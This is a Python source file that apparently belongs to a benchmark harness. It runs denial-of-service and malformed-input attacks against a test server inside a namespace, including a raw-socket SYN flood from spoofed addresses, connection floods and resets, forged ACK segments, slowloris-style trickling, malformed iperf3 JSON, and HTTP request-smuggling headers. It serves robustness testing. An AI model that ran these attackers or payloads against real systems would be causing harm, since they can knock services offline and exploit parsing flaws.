"""Attackers for bench/ingest_attacks.py, which starts this program in a namespace; it ends with standard input.

    python bench/attackers.py silent|flood|closes|syn|churn|garbage|json|heads HOST:PORT [COUNT]

Each attacker sends at a bounded rate, and only what any host on a network may send. Prints "ready", and one JSON object
with what it did. Never point this at a machine that is not yours.
"""

import json
import os
import random
import resource
import select
import socket
import struct
import sys
import time
from collections import deque
from collections.abc import Callable, Iterator
from contextlib import ExitStack, suppress
from itertools import cycle

from attack_network import ATTACKERS, FORGED

Address = tuple[str, int]

_SILENT = 64
_FLOOD_A_SECOND = 400.0
_FLOOD_HELD = 2000
_SYNS_A_SECOND = 3000
_GARBAGE_CONNECTIONS = 16
_GARBAGE_SECONDS = 0.3
_HOSTILE_A_SECOND = 20.0
_TRICKLES = 16
_TIMEOUT_SECONDS = 5.0
_CHURN_MOST = 200_000
_SYN, _ACK = 2, 16
_IP_BIND_ADDRESS_NO_PORT = 24
_sources = cycle(ATTACKERS)


def _connect(to: Address) -> socket.socket:
    """Connects from the next of the attackers' addresses. The port need only be unique for this destination."""
    made = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    try:
        made.settimeout(_TIMEOUT_SECONDS)
        made.setsockopt(socket.IPPROTO_IP, _IP_BIND_ADDRESS_NO_PORT, 1)
        made.bind((next(_sources), 0))
        made.connect(to)
    except OSError:
        made.close()
        raise
    return made


def _ended(seconds: float) -> bool:
    """Whether standard input has ended, after waiting at most this long."""
    return bool(select.select([sys.stdin], [], [], max(0.0, seconds))[0])


def _checksum(data: bytes) -> int:
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def _segment(source: Address, to: Address, sequence: int, acknowledgement: int, flags: int) -> bytes:
    """An IP packet with a TCP segment without payload."""
    ends = socket.inet_aton(source[0]) + socket.inet_aton(to[0])
    words = (source[1], to[1], sequence, acknowledgement, 5 << 4, flags, 65535)
    tcp = struct.pack("!HHIIBBHHH", *words, 0, 0)
    total = _checksum(ends + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp)) + tcp)
    tcp = tcp[:16] + struct.pack("!H", total) + tcp[18:]
    return struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), 1, 0, 64, socket.IPPROTO_TCP, 0) + ends + tcp


def _raw() -> socket.socket:
    return socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)


def _syns(to: Address) -> Iterator[bytes]:
    while True:
        source = (f"{FORGED}.{random.randint(1, 254)}", random.randint(1024, 65535))
        yield _segment(source, to, random.getrandbits(32), 0, _SYN)


def syn(to: Address, _: int) -> dict[str, int]:
    """Sends SYNs from forged addresses at an even rate."""
    packets, sent, began = _syns(to), 0, time.monotonic()
    with _raw() as raw:
        while not _ended(0.005):
            while sent < (time.monotonic() - began) * _SYNS_A_SECOND:
                raw.sendto(next(packets), (to[0], 0))
                sent += 1
    return {"syns": sent, "a_second": round(sent / (time.monotonic() - began))}


def _has_ended(connection: socket.socket) -> bool:
    """Whether the other side has closed the connection; never waits, although the socket has a timeout."""
    if not select.select([connection], [], [], 0)[0]:
        return False
    try:
        return connection.recv(1) == b""
    except OSError:
        return True


def silent(to: Address, _: int) -> dict[str, int]:
    """Opens connections that never send; one that is reset is opened again."""
    held: list[socket.socket] = []
    made = 0
    while not _ended(0.2):
        for connection in [one for one in held if _has_ended(one)]:
            connection.close()
            held.remove(connection)
        while len(held) < _SILENT:
            with suppress(OSError):
                held.append(_connect(to))
            made += 1
    return {"connections": made, "held": len(held)}


def flood(to: Address, _: int) -> dict[str, int]:
    """Opens silent connections at an even rate, and abandons the oldest ones."""
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    held: deque[socket.socket] = deque()
    made = refused = 0
    began = time.monotonic()
    while not _ended(began + (made + refused) / _FLOOD_A_SECOND - time.monotonic()):
        try:
            held.append(_connect(to))
            made += 1
        except OSError:
            refused += 1
        if len(held) > min(_FLOOD_HELD, most // 2):
            held.popleft().close()
    return {"connections": made, "refused": refused, "a_second": round(made / (time.monotonic() - began))}


def closes(to: Address, _: int) -> dict[str, int]:
    """Opens the same number of silent connections and closes them all at once, repeatedly."""
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    made = refused = times = 0
    while not _ended(0):
        with ExitStack() as held:
            for _ in range(min(_FLOOD_HELD, most // 2)):
                try:
                    held.enter_context(_connect(to))
                    made += 1
                except OSError:
                    refused += 1
                if _ended(0):
                    break
        times += 1
    return {"connections": made, "refused": refused, "times": times}


def churn(to: Address, count: int) -> dict[str, int]:
    """Opens connections and resets them at once, as fast as the kernel allows."""
    made = refused = 0
    linger = struct.pack("ii", 1, 0)
    while made + refused < min(count, _CHURN_MOST):
        if made % 256 == 0 and _ended(0):
            break
        try:
            with _connect(to) as connection:
                connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, linger)
            made += 1
        except OSError:
            refused += 1
    return {"connections": made, "refused": refused}


def garbage(to: Address, _: int) -> dict[str, int]:
    """Opens connections that send one byte, then only garbage that must not keep them alive: idle ones are reset."""
    held: dict[socket.socket, float] = {}
    reset = late = sent = 0
    longest = 0.0
    with _raw() as raw:
        while not _ended(_GARBAGE_SECONDS):
            for connection in [one for one in held if _has_ended(one)]:
                longest = max(longest, time.monotonic() - held.pop(connection))
                connection.close()
                reset += 1
            while len(held) < _GARBAGE_CONNECTIONS:
                try:
                    made = _connect(to)
                    made.sendall(b"!")
                    held[made] = time.monotonic()
                except OSError:
                    late += 1
                    break
            for connection in held:
                wrong = random.getrandbits(32)
                raw.sendto(_segment(connection.getsockname(), to, wrong, wrong ^ 0x5A5A5A5A, _ACK), (to[0], 0))
                sent += 1
    oldest = max((time.monotonic() - since for since in held.values()), default=0.0)
    return {"segments": sent, "reset": reset, "refused": late, "longest_ms": round(1e3 * max(longest, oldest))}


def _hostile_json() -> list[bytes]:
    deep = b"[" * 20_000
    digits = b"9" * 26
    return [
        deep,
        b'{"a":' * 5000,
        b'{"tcp":true,"parallel":' + digits + b"}",
        b'{"tcp":true,"parallel":-1}',
        b'{"tcp":true,"parallel":1e400}',
        b'{"tcp":true,"parallel":NaN}',
        b'{"tcp":true,"parallel":Infinity}',
        b'{"parallel":{"parallel":[]}}',
        b"\xff\xfe\x00",
        b"",
        b"null",
        b'{"parallel":true}',
        b'"' + b"\\u0000" * 100,
    ]


_HOSTILE_RESULTS = (
    b'{"streams":[{"id":1,"bytes":Infinity}]}',
    b'{"streams":[{"id":1,"bytes":99999999999999999999999999}]}',
    b'{"streams":[{"id":1,"bytes":-5}]}',
    b'{"streams":{"id":1}}',
    b'{"streams":[[1]]}',
    b'{"streams":[{"id":NaN,"bytes":1}]}',
)


def _talk(to: Address, number: int) -> None:
    """Holds one hostile iperf3 conversation."""
    texts = _hostile_json()
    cookie = f"x{number:035d}".encode() + b"\0"
    with _connect(to) as control:
        control.sendall(cookie)
        if control.recv(1) != b"\x09":
            return
        which = number % (len(texts) + len(_HOSTILE_RESULTS) + 1)
        if which == len(texts) + len(_HOSTILE_RESULTS):  # a length without content
            control.sendall(struct.pack(">I", 0xFFFFFFFF))
        elif which < len(texts):
            control.sendall(struct.pack(">I", len(texts[which])) + texts[which])
        else:
            _hostile_results(to, control, cookie, _HOSTILE_RESULTS[which - len(texts)])
        control.recv(1)


def _hostile_results(to: Address, control: socket.socket, cookie: bytes, text: bytes) -> None:
    """Runs a test that is valid until its results."""
    good = b'{"tcp":true,"parallel":1}'
    control.sendall(struct.pack(">I", len(good)) + good)
    control.recv(1)
    with _connect(to) as data:
        data.sendall(cookie + b"z" * 1000)
        control.recv(2)
        control.sendall(b"\x04")
        control.recv(1)
        control.sendall(struct.pack(">I", len(text)) + text)
        control.recv(1)


def hostile_json(to: Address, _: int) -> dict[str, int]:
    """Holds invalid iperf3 conversations, one after the other."""
    tried = 0
    began = time.monotonic()
    while not _ended(began + tried / _HOSTILE_A_SECOND - time.monotonic()):
        with suppress(OSError):
            _talk(to, tried)
        tried += 1
    return {"conversations": tried}


def _hostile_heads() -> list[bytes]:
    line = b"PUT /a HTTP/1.1\r\n"
    return [
        line + b"Content-Length: 3\r\nContent-Length: 10\r\n\r\nabc",
        line + b"Content-Length : 3\r\n\r\nabc",
        line + b"Content-Length: +3\r\n\r\nabc",
        line + b"Content-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n3\r\nabc\r\n0\r\n\r\n",
        line + b"X: y\x85Content-Length: 3\r\n\r\nabc",
        line + b"X: y\rContent-Length: 3\r\n\r\nabc",
        line + b"X: y\nContent-Length: 3\n\nabc",
        line + b"Transfer-Encoding: chunked\r\n\r\nffffffffffffffff\r\n",
        line + b"Transfer-Encoding: chunked\r\n\r\n" + b"1;" + b"a" * 8000,
        line + b"A: b\r\n" * 20_000,
        line + b"X: " + b"a" * 100_000,
        b"\x16\x03\x01\x02\x00\x01\x00" + bytes(500),
        b"GET / HTTP/1.1\r\n\r\n",
        bytes(1000),
    ]


def heads(to: Address, _: int) -> dict[str, int]:
    """Sends hostile heads one after the other, and other heads byte by byte at the same time."""
    texts, tried, trickled = _hostile_heads(), 0, 0
    began = time.monotonic()
    trickles: list[socket.socket] = []
    while not _ended(began + tried / _HOSTILE_A_SECOND - time.monotonic()):
        with suppress(OSError), _connect(to) as connection:
            connection.sendall(texts[tried % len(texts)])
            connection.shutdown(socket.SHUT_WR)
            while connection.recv(1 << 12):
                pass
        tried += 1
        while len(trickles) < _TRICKLES:
            with suppress(OSError):
                trickles.append(_connect(to))
                trickles[-1].sendall(b"PUT /a HTTP/1.1\r\nX: ")
        for connection in list(trickles):
            try:
                connection.sendall(b"b")
                trickled += 1
            except OSError:
                connection.close()
                trickles.remove(connection)
    return {"heads": tried, "trickled_bytes": trickled}


ATTACKS: dict[str, Callable[[Address, int], dict[str, int]]] = {
    "silent": silent,
    "flood": flood,
    "closes": closes,
    "syn": syn,
    "churn": churn,
    "garbage": garbage,
    "json": hostile_json,
    "heads": heads,
}


def main() -> None:
    """Runs the program."""
    kind, where = sys.argv[1:3]
    count = int(sys.argv[3]) if len(sys.argv) > 3 else _CHURN_MOST  # noqa: PLR2004
    host, port = where.rsplit(":", 1)
    os.nice(10)  # real attackers would run on other machines
    print("ready", flush=True)
    print(json.dumps(ATTACKS[kind]((host, int(port)), count)))


if __name__ == "__main__":
    main()
